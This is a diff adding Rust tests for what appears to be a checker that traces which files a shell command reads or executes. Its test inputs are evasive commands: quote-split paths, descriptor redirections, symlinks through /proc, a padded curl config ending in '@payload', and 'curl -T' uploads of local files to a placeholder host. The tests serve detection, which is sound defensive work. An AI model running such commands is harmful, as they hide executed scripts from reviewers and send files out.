@@ -564,3 +564,78 @@ fn a_hook_stands_in_front_of_decoys() {
         assert!(evidence.iter().any(|file| file.path.ends_with(hook)), "{command}: {evidence:?}");
     }
 }
+
+/// What quotes divide in a text that is not understood, what is read and written by one redirection, and what only looks like one.
+#[test]
+fn joined_words_and_redirections_both_ways_count() {
+    let folder = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| {
+        let file = folder.path().join(name);
+        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
+        std::fs::write(file, text).unwrap();
+    };
+    for (command, file) in [
+        ("echo $[1+1]; sh su''b/x.sh", "sub/x.sh"),
+        ("echo $[1+1]; sh s\\ub/x.sh", "sub/x.sh"),
+        ("echo $[1+1]; sh \"su\"b/x.sh", "sub/x.sh"),
+        ("echo $[1+1]; curl -s -T su''b/data.txt https://h.example/", "sub/data.txt"),
+        ("echo $[1+1]; sh <>sub/x.sh", "sub/x.sh"),
+        ("echo $[1+1]; curl -s -T - https://h.example/ <>sub/data.txt", "sub/data.txt"),
+        ("sh -c 'exec 3<>sub/x.sh; . /dev/fd/3'", "sub/x.sh"),
+        ("sh -c 'exec 3<>sub/x.sh; sh <&3'", "sub/x.sh"),
+        ("perl -e '%h=(f=>\"sub/x.pl\"); do \"./$h{f}\"'", "sub/x.pl"),
+    ] {
+        write(file, "one");
+        let before = evidence_of(command, folder.path());
+        assert!(before.iter().any(|known| known.path.ends_with(file)), "{command}: {before:?}");
+        write(file, "another one");
+        assert_ne!(before, evidence_of(command, folder.path()), "{command}");
+    }
+    // What is only written is another one meanwhile, and nobody reads it.
+    write("out.txt", "one");
+    let before = evidence_of("curl -s https://h.example/ > out.txt", folder.path());
+    write("out.txt", "another one");
+    assert_eq!(before, evidence_of("curl -s https://h.example/ > out.txt", folder.path()));
+}
+
+/// What is not looked at to its end, or leads elsewhere each time, is told without a digest.
+#[test]
+fn limits_and_links_through_processes_are_said() {
+    let folder = tempfile::tempdir().unwrap();
+    let root = folder.path();
+    for name in ["sub/x.sh", "x.sh", "s3/pub", "pub"] {
+        std::fs::create_dir_all(root.join(name).parent().unwrap()).unwrap();
+        std::fs::write(root.join(name), "echo decoy").unwrap();
+    }
+    std::os::unix::fs::symlink("/proc/self/cwd/x.sh", root.join("link.sh")).unwrap();
+    std::os::unix::fs::symlink("/proc/self/cwd/pub", root.join("plink")).unwrap();
+    std::os::unix::fs::symlink("link.sh", root.join("further.sh")).unwrap();
+    for command in [
+        "cd sub && sh ../link.sh",
+        "cd sub && sh ../further.sh",
+        "cd s3 && curl -s -T ../plink https://h.example/up",
+        "sh link.sh",
+    ] {
+        let said = evidence_of(command, root);
+        let link =
+            said.iter().find(|known| ["link.sh", "further.sh", "plink"].iter().any(|name| known.path.contains(name)));
+        assert!(link.is_some_and(|link| link.sha256.is_empty() && link.head.is_empty()), "{command}: {said:?}");
+    }
+    let long = format!("{}\ndata = @payload\n", "# a remark\n".repeat(30_000));
+    std::fs::write(root.join("curl.cfg"), long).unwrap();
+    let folders: Vec<String> = (0..20).map(|number| format!("d{number}")).collect();
+    for name in &folders {
+        std::fs::create_dir(root.join(name)).unwrap();
+    }
+    let many = format!("ls {}; find i -execdir sh x/run.sh ';'", folders.join(" "));
+    for (command, words) in [
+        ("curl -K curl.cfg https://h.example/", "curl.cfg says behind its first 256 KiB"),
+        (many.as_str(), "more folders than are looked into"),
+    ] {
+        let said = evidence_of(command, root);
+        assert!(said.iter().any(|known| known.path.contains(words) && known.sha256.is_empty()), "{command}: {said:?}");
+    }
+    let input = serde_json::json!({"text": format!("{}attach x.sh", "w.b ".repeat(1100))}).to_string();
+    let said = of_reads(&Effects::default(), &input, root);
+    assert!(said.iter().any(|known| known.path.contains("more words of its input")), "{said:?}");
+}
